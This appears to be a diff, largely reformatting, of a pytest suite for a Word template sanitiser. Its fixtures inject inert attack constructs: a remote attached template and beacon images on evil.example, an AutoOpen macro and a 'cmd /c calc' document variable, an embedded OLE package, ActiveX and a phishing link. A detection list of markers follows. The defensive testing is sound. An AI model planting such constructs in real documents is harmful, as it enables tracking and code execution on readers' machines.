@@ -3,6 +3,7 @@
 Each template is real-shaped: a python-docx document with a letterhead picture in its header (an internal
 image), into which the parts Word and attackers write are injected as Word writes them.
 """
+
 from __future__ import annotations
 
 import io
@@ -56,8 +57,10 @@ def add_rel(parts: dict[str, bytes], part: str, rid: str, kind: str, target: str
     mode = ' TargetMode="External"' if external else ""
     entry = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'.encode()
     if rels not in parts:
-        parts[rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
-                       b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+        parts[rels] = (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
+            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+        )
     parts[rels] = parts[rels].replace(b"</Relationships>", entry + b"</Relationships>")
 
 
@@ -73,68 +76,104 @@ def in_header(parts: dict[str, bytes], xml: str) -> None:
 
 def remote_header_image(parts):
     add_rel(parts, header_name(parts), "rIdRemote", f"{R}/image", EVIL + "beacon.png", external=True)
-    in_header(parts, '<w:r><w:pict><v:shape id="s9" style="width:10pt;height:10pt">'
-                     '<v:imagedata r:id="rIdRemote"/></v:shape></w:pict></w:r>')
+    in_header(
+        parts,
+        '<w:r><w:pict><v:shape id="s9" style="width:10pt;height:10pt">'
+        '<v:imagedata r:id="rIdRemote"/></v:shape></w:pict></w:r>',
+    )
 
 
 def remote_attached_template(parts):
     add_rel(parts, "word/settings.xml", "rIdTpl", f"{R}/attachedTemplate", EVIL + "payload.dotm", external=True)
-    parts["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>',
-                                        parts["word/settings.xml"], count=1)
+    parts["word/settings.xml"] = re.sub(
+        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>', parts["word/settings.xml"], count=1
+    )
 
 
 def ole_package_in_header(parts):
     parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ\x90\x00 setup.exe" * 40
     add_rel(parts, header_name(parts), "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
     add_type(parts, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')
-    in_header(parts, '<w:r><w:object><v:shape id="o1" style="width:40pt;height:40pt"/>'
-                     '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" DrawAspect="Icon" ObjectID="_1"'
-                     ' r:id="rIdOle"/></w:object></w:r>')
+    in_header(
+        parts,
+        '<w:r><w:object><v:shape id="o1" style="width:40pt;height:40pt"/>'
+        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" DrawAspect="Icon" ObjectID="_1"'
+        ' r:id="rIdOle"/></w:object></w:r>',
+    )
 
 
 def dotm_with_macros(parts):
     parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
         b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
+        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
+    )
     parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen() Shell \"calc.exe\" End Sub"
-    parts["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
-    add_rel(parts, "word/document.xml", "rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
-            "vbaProject.bin")
-    add_rel(parts, "word/vbaProject.bin", "rIdData", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
-            "vbaData.xml")
-    add_type(parts, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-                    '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>')
+    parts["word/vbaData.xml"] = (
+        b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
+    )
+    add_rel(
+        parts,
+        "word/document.xml",
+        "rIdVba",
+        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+        "vbaProject.bin",
+    )
+    add_rel(
+        parts,
+        "word/vbaProject.bin",
+        "rIdData",
+        "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
+        "vbaData.xml",
+    )
+    add_type(
+        parts,
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
+    )
 
 
 def custom_xml(parts):
     parts["customXml/item1.xml"] = b'<?xml version="1.0"?><secret xmlns="urn:x">tracking-id-42</secret>'
-    parts["customXml/itemProps1.xml"] = (b'<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" '
-                                         b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>')
+    parts["customXml/itemProps1.xml"] = (
+        b'<?xml version="1.0"?><ds:datastoreItem ds:itemID="{1}" '
+        b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>'
+    )
     add_rel(parts, "customXml/item1.xml", "rId1", f"{R}/customXmlProps", "itemProps1.xml")
     add_rel(parts, "word/document.xml", "rIdCx", f"{R}/customXml", "../customXml/item1.xml")
-    add_type(parts, '<Override PartName="/customXml/itemProps1.xml" '
-                    'ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>')
+    add_type(
+        parts,
+        '<Override PartName="/customXml/itemProps1.xml" '
+        'ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/>',
+    )
 
 
 def document_variables(parts):
     parts["word/settings.xml"] = parts["word/settings.xml"].replace(
-        b"</w:settings>", b'<w:docVars><w:docVar w:name="payload" w:val="cmd /c calc"/></w:docVars></w:settings>')
+        b"</w:settings>", b'<w:docVars><w:docVar w:name="payload" w:val="cmd /c calc"/></w:docVars></w:settings>'
+    )
 
 
 def activex_and_links(parts):
-    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
+    parts["word/activeX/activeX1.xml"] = (
+        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
+    )
     add_rel(parts, header_name(parts), "rIdAx", f"{R}/control", "activeX/activeX1.xml")
     add_rel(parts, header_name(parts), "rIdLink", f"{R}/hyperlink", EVIL + "phish", external=True)
-    add_type(parts, '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>')
-    in_header(parts, '<w:r><w:object><w:control r:id="rIdAx" w:name="CheckBox1"/></w:object></w:r>'
-                     '<w:hyperlink r:id="rIdLink"><w:r><w:t>官网</w:t></w:r></w:hyperlink>'
-                     '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d ">'
-                     '<w:r><w:t>图</w:t></w:r></w:fldSimple>'
-                     # a field code split over runs, as Word writes it after an edit
-                     '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPIC</w:instrText></w:r>'
-                     '<w:r><w:instrText>TURE "http://evil.example/split.png" \\d </w:instrText></w:r>'
-                     '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>章</w:t></w:r>'
-                     '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
+    add_type(
+        parts, '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
+    )
+    in_header(
+        parts,
+        '<w:r><w:object><w:control r:id="rIdAx" w:name="CheckBox1"/></w:object></w:r>'
+        '<w:hyperlink r:id="rIdLink"><w:r><w:t>官网</w:t></w:r></w:hyperlink>'
+        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d ">'
+        '<w:r><w:t>图</w:t></w:r></w:fldSimple>'
+        # a field code split over runs, as Word writes it after an edit
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPIC</w:instrText></w:r>'
+        '<w:r><w:instrText>TURE "http://evil.example/split.png" \\d </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>章</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
+    )
 
 
 ATTACKS = {
@@ -167,8 +206,19 @@ def assert_inert(docx: bytes) -> None:
     assert not [n for n in names if re.search(r"embeddings/|activeX/|vba|customXml/", n, re.I)], names
     assert not [n for n, text in xml.items() if 'TargetMode="External"' in text]
     everything = "\n".join(xml.values())
-    for marker in ("w:object", "OLEObject", "w:control", "w:docVars", "attachedTemplate", "macroEnabled",
-                   "oleObject", "vbaProject", "INCLUDEPICTURE", "evil.example", "w:altChunk"):
+    for marker in (
+        "w:object",
+        "OLEObject",
+        "w:control",
+        "w:docVars",
+        "attachedTemplate",
+        "macroEnabled",
+        "oleObject",
+        "vbaProject",
+        "INCLUDEPICTURE",
+        "evil.example",
+        "w:altChunk",
+    ):
         assert marker not in everything, marker
     media = [n for n in names if n.startswith("word/media/")]
     assert media, "the letterhead picture was kept"
@@ -191,9 +241,17 @@ def test_sanitise_names_every_removed_kind_and_keeps_a_clean_template_as_it_is(t
         assert after.namelist() == kept
         assert all(before.read(n) == after.read(n) for n in kept if not n.endswith((".rels", "Types].xml")))
     _, removed = sanitise(template(tmp_path, *ATTACKS.values()).read_bytes())
-    assert set(removed.kinds) >= {"远程图片", "外部模板（attachedTemplate）", "嵌入的 OLE 对象", "宏（VBA）",
-                                  "自定义 XML 数据（customXml）", "文档变量（docVars）", "ActiveX 控件", "超链接",
-                                  "取外部内容的域"}
+    assert set(removed.kinds) >= {
+        "远程图片",
+        "外部模板（attachedTemplate）",
+        "嵌入的 OLE 对象",
+        "宏（VBA）",
+        "自定义 XML 数据（customXml）",
+        "文档变量（docVars）",
+        "ActiveX 控件",
+        "超链接",
+        "取外部内容的域",
+    }
     assert EVIL + "payload.dotm" in removed.addresses
 
 
@@ -203,24 +261,32 @@ CORE = b"http://schemas.openxmlformats.org/package/2006/metadata/core-properties
 
 def cover_page_bound_to_core_properties(parts):
     """Word's cover page: a coverPageProps store and a title content control bound to the core properties."""
-    parts["customXml/item2.xml"] = (b'<?xml version="1.0"?><CoverPageProperties xmlns="' + COVER_PAGE + b'">'
-                                    b"<PublishDate>2026-01-20</PublishDate><Abstract/></CoverPageProperties>")
-    parts["customXml/itemProps2.xml"] = (b'<?xml version="1.0"?><ds:datastoreItem ds:itemID="{55AF091B}" '
-                                         b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml">'
-                                         b'<ds:schemaRefs><ds:schemaRef ds:uri="' + COVER_PAGE + b'"/></ds:schemaRefs>'
-                                         b"</ds:datastoreItem>")
+    parts["customXml/item2.xml"] = (
+        b'<?xml version="1.0"?><CoverPageProperties xmlns="' + COVER_PAGE + b'">'
+        b"<PublishDate>2026-01-20</PublishDate><Abstract/></CoverPageProperties>"
+    )
+    parts["customXml/itemProps2.xml"] = (
+        b'<?xml version="1.0"?><ds:datastoreItem ds:itemID="{55AF091B}" '
+        b'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml">'
+        b'<ds:schemaRefs><ds:schemaRef ds:uri="' + COVER_PAGE + b'"/></ds:schemaRefs>'
+        b"</ds:datastoreItem>"
+    )
     add_rel(parts, "customXml/item2.xml", "rId1", f"{R}/customXmlProps", "itemProps2.xml")
     add_rel(parts, "word/document.xml", "rIdCp", f"{R}/customXml", "../customXml/item2.xml")
-    binding = (b'<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings="xmlns:ns0=\'' + CORE + b'\' " '
-               b'w:xpath="/ns0:coreProperties[1]/ns1:title[1]" w:storeItemID="{6C3C8BC8}"/></w:sdtPr>'
-               b"<w:sdtContent><w:p><w:r><w:t>\xe5\xb9\xb4\xe6\x8a\xa5</w:t></w:r></w:p></w:sdtContent></w:sdt>")
+    binding = (
+        b'<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings="xmlns:ns0=\'' + CORE + b'\' " '
+        b'w:xpath="/ns0:coreProperties[1]/ns1:title[1]" w:storeItemID="{6C3C8BC8}"/></w:sdtPr>'
+        b"<w:sdtContent><w:p><w:r><w:t>\xe5\xb9\xb4\xe6\x8a\xa5</w:t></w:r></w:p></w:sdtContent></w:sdt>"
+    )
     parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:sectPr", binding + b"<w:sectPr", 1)
 
 
 def bibliography_with_an_address(parts):
-    parts["customXml/item1.xml"] = (b'<?xml version="1.0"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/'
-                                    b'officeDocument/2006/bibliography"><b:Source><b:URL>http://evil.example/t.gif'
-                                    b"</b:URL></b:Source></b:Sources>")
+    parts["customXml/item1.xml"] = (
+        b'<?xml version="1.0"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/'
+        b'officeDocument/2006/bibliography"><b:Source><b:URL>http://evil.example/t.gif'
+        b"</b:URL></b:Source></b:Sources>"
+    )
 
 
 @pytest.mark.parametrize(
@@ -231,8 +297,12 @@ def bibliography_with_an_address(parts):
         ((custom_xml,), True),  # a store of an unknown schema: hidden data
         ((bibliography_with_an_address,), True),
     ],
-    ids=["python-docx bibliography", "cover page and a title bound to the core properties", "unknown store",
-         "bibliography holding an address"],
+    ids=[
+        "python-docx bibliography",
+        "cover page and a title bound to the core properties",
+        "unknown store",
+        "bibliography holding an address",
+    ],
 )
 def test_word_s_own_custom_xml_is_removed_quietly_any_other_is_named(tmp_path, attacks, loud):
     data, removed = sanitise(template(tmp_path, *attacks).read_bytes())
